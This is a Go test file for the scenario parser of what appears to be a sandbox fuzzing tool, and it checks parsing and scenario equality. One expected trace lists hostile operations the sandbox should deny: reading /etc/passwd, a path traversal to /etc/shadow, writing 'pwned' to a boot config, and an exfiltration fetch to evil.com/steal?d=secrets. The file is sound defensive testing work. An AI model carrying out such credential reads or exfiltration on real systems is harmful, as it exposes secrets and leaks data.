package scenario

import (
	"net/netip"
	"os"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/sbxfuzz/sbxfuzz/core"
)

// addrEqual lets cmp compare the netip.Addr values in DNS records.
var addrEqual = cmpopts.EquateComparable(netip.Addr{})

// likeEqual makes cmp compare scenarios the way Scenario.Equal does, so a
// failing Equal can print what differs: Step.Line is ignored, nil and empty
// lists are alike, and expectations compare with expectEqual.
//
// Compare Scenario values, not *Scenario: cmp calls the Equal method of a
// *Scenario and, when it is false, prints both whole instead of a diff;
// and a strict comparison would silently become Equal's looser one.
var likeEqual = cmp.Options{
	addrEqual,
	cmpopts.IgnoreFields(Step{}, "Line"),
	cmpopts.EquateEmpty(),
	cmp.Comparer(expectEqual),
}

func readTestdata(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func mustParse(t *testing.T, name string, src []byte) *Scenario {
	t.Helper()
	s, err := Parse(name, src)
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	return s
}

func TestParseWorkedTrace(t *testing.T) {
	got := mustParse(t, "worked_trace.sbx", readTestdata(t, "worked_trace.sbx"))
	want := &Scenario{
		Grant: core.GrantSpec{
			FSRead:   []string{"/work/"},
			FSWrite:  []string{"/work/out/"},
			NetHosts: []string{"api.internal"},
			Tools:    []string{"summarize"},
			Budgets:  core.Budgets{MaxOps: 7, MaxWall: 1000000, MaxOutputBytes: 1048576},
		},
		World: WorldSpec{
			Files:  []File{{Path: "/work/data.txt", Data: "hello"}},
			Routes: []Route{{Host: "api.internal", Path: "/status", Body: "ok"}},
			Clock:  TickClock{Start: 0, Step: 1},
		},
		Steps: []Step{
			{Op: op("fs_read", "/work/data.txt"), Expect: &Expect{core.OK, "hello", true}, Line: 9},
			{Op: op("fs_read", "/etc/passwd"), Expect: &Expect{Kind: core.FSReadDenied}, Line: 10},
			{Op: op("fs_read", "/work/../etc/shadow"), Expect: &Expect{Kind: core.PathTraversal}, Line: 11},
			{Op: op("fs_write", "/work/out/report.txt", "done"), Expect: &Expect{Kind: core.OK}, Line: 12},
			{Op: op("fs_write", "/system/boot.cfg", "pwned"), Expect: &Expect{Kind: core.FSWriteDenied}, Line: 13},
			{Op: op("net_fetch", "api.internal", "/status"), Expect: &Expect{core.OK, "ok", true}, Line: 14},
			{Op: op("net_fetch", "evil.com", "/steal?d=secrets"), Expect: &Expect{Kind: core.EgressDenied}, Line: 15},
			{Op: op("fs_read", "/work/data.txt"), Expect: &Expect{Kind: core.MaxOps}, Line: 16},
		},
	}
	if diff := cmp.Diff(*want, *got, addrEqual); diff != "" {
		t.Errorf("Parse(worked_trace.sbx) mismatch (-want +got):\n%s", diff)
	}
	if !got.Equal(want) {
		t.Errorf("Equal is false on an identical scenario")
	}
}

func TestNewDefaults(t *testing.T) {
	s := New()
	want := core.Budgets{MaxOps: 1000, MaxWall: 1000000, MaxOutputBytes: 1048576}
	if diff := cmp.Diff(want, s.Grant.Budgets); diff != "" {
		t.Errorf("New().Grant.Budgets mismatch (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(TickClock{Start: 0, Step: 1}, s.World.Clock); diff != "" {
		t.Errorf("New().World.Clock mismatch (-want +got):\n%s", diff)
	}
	if !s.Equal(mustParse(t, "empty.sbx", nil)) {
		t.Errorf("Parse of empty input differs from New()")
	}
	if len(s.Format()) != 0 {
		t.Errorf("New().Format() = %q, want empty", s.Format())
	}
}

func TestEqual(t *testing.T) {
	base := func() *Scenario {
		s := New()
		s.Steps = []Step{{Op: op("fs_read", "/a"), Expect: &Expect{Kind: core.OK}, Line: 3}}
		return s
	}
	for _, tc := range []struct {
		reason string
		change func(*Scenario)
		equal  bool
	}{
		{"Line is ignored", func(s *Scenario) { s.Steps[0].Line = 9 }, true},
		{"nil and empty lists are alike", func(s *Scenario) { s.Comment = []string{}; s.Steps[0].Comment = []string{} }, true},
		{"Data is ignored without HasData", func(s *Scenario) { s.Steps[0].Expect.Data = "x" }, true},
		{"HasData counts", func(s *Scenario) { s.Steps[0].Expect.HasData = true }, false},
		{"a missing expectation counts", func(s *Scenario) { s.Steps[0].Expect = nil }, false},
		{"comments count", func(s *Scenario) { s.Comment = []string{"x"} }, false},
		{"clock counts", func(s *Scenario) { s.World.Clock.Step = 2 }, false},
		{"links count", func(s *Scenario) { s.World.Links = []Link{{Path: "/a", Target: "/etc"}} }, false},
		{"dns addresses count", func(s *Scenario) {
			s.World.DNS = []DNSRecord{{Host: "h", Addrs: []netip.Addr{netip.IPv6Loopback()}}}
		}, false},
		// Every other field counts too: CheckParse, FuzzParse's oracle,
		// sees through Equal only.
		{"fs_read roots count", func(s *Scenario) { s.Grant.FSRead = []string{"/a"} }, false},
		{"fs_write roots count", func(s *Scenario) { s.Grant.FSWrite = []string{"/a"} }, false},
		{"net hosts count", func(s *Scenario) { s.Grant.NetHosts = []string{"h"} }, false},
		{"tools count", func(s *Scenario) { s.Grant.Tools = []string{"t"} }, false},
		{"budgets count", func(s *Scenario) { s.Grant.Budgets.MaxOutputBytes++ }, false},
		{"files count", func(s *Scenario) { s.World.Files = []File{{Path: "/a", Data: "x"}} }, false},
		{"routes count", func(s *Scenario) { s.World.Routes = []Route{{Host: "h", Path: "/", Body: "x"}} }, false},
		{"tool outputs count", func(s *Scenario) { s.World.ToolOutputs = []ToolOutput{{Name: "t", Output: "x"}} }, false},
		{"the clock's start counts", func(s *Scenario) { s.World.Clock.Start = 1 }, false},
		{"op kinds count", func(s *Scenario) { s.Steps[0].Op.Kind = "fs_write" }, false},
		{"op arguments count", func(s *Scenario) { s.Steps[0].Op.Args = []string{"/b"} }, false},
		{"step comments count", func(s *Scenario) { s.Steps[0].Comment = []string{"x"} }, false},
		{"expected kinds count", func(s *Scenario) { s.Steps[0].Expect.Kind = core.NotFound }, false},
		{"steps count", func(s *Scenario) { s.Steps = append(s.Steps, s.Steps[0]) }, false},
	} {
		s := base()
		tc.change(s)
		if got := base().Equal(s); got != tc.equal {
			t.Errorf("%s: Equal = %v, want %v", tc.reason, got, tc.equal)
		}
	}
}

func op(kind string, args ...string) core.Op { return core.Op{Kind: kind, Args: args} }

// TestEqualRecords: two worlds that differ in one field of one record are
// not Equal, whichever list the record is in.
func TestEqualRecords(t *testing.T) {
	base := func() *Scenario {
		s := New()
		s.World = WorldSpec{
			Files:       []File{{Path: "/a", Data: "x"}},
			Routes:      []Route{{Host: "h", Path: "/", Body: "x"}},
			DNS:         []DNSRecord{{Host: "h", Addrs: []netip.Addr{netip.IPv6Loopback()}}},
			ToolOutputs: []ToolOutput{{Name: "t", Output: "x"}},
			Links:       []Link{{Path: "/l", Target: "/a"}},
		}
		s.Steps = []Step{{Op: op("fs_read", "/a"), Expect: &Expect{Kind: core.OK, Data: "x", HasData: true}}}
		return s
	}
	for _, tc := range []struct {
		reason string
		change func(*Scenario)
	}{
		{"a file's path", func(s *Scenario) { s.World.Files[0].Path = "/b" }},
		{"a file's data", func(s *Scenario) { s.World.Files[0].Data = "y" }},
		{"a route's body", func(s *Scenario) { s.World.Routes[0].Body = "y" }},
		{"a route that redirects", func(s *Scenario) { s.World.Routes[0].Redirect = true }},
		{"a dns host", func(s *Scenario) { s.World.DNS[0].Host = "g" }},
		{"a tool's output", func(s *Scenario) { s.World.ToolOutputs[0].Output = "y" }},
		{"a link's target", func(s *Scenario) { s.World.Links[0].Target = "/b" }},
		{"expected data", func(s *Scenario) { s.Steps[0].Expect.Data = "y" }},
	} {
		s := base()
		tc.change(s)
		if base().Equal(s) {
			t.Errorf("%s: Equal = true on scenarios that differ", tc.reason)
		}
	}
	if !base().Equal(base()) {
		t.Error("Equal = false on two equal scenarios")
	}
}
